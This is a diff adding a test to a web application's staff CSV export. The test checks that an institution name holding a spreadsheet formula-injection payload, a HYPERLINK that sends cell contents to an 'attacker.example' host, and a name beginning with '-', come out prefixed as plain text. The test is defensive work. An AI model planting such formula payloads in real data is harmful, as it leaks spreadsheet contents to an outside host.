@@ -47,3 +47,17 @@ def test_the_export_is_for_staff_with_permission_only(client):
     assert password_only.status_code == 302 and "/admin/login/" in password_only["Location"]
     assert without_permission.status_code == 403
     assert not StaffExportRecord.objects.exists()
+
+
+def test_an_institution_name_a_spreadsheet_would_run_reaches_staff_as_text(admin_client):
+    from conftest import an_institution
+
+    attack = '=HYPERLINK("http://attacker.example/?"&A2,"Click")'
+    pledge = a_live_pledge(institution=an_institution(name=attack))
+    a_confirmed_signature(pledge=pledge, name="-Eve +Mallory", display="full", contact_opt_in=True)
+
+    response = admin_client.get(f"/staff/exports/campaigns/{pledge.campaign.slug}/signers.csv")
+    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+    assert row["institution"] == "'" + attack
+    assert row["name"] == "'-Eve +Mallory"
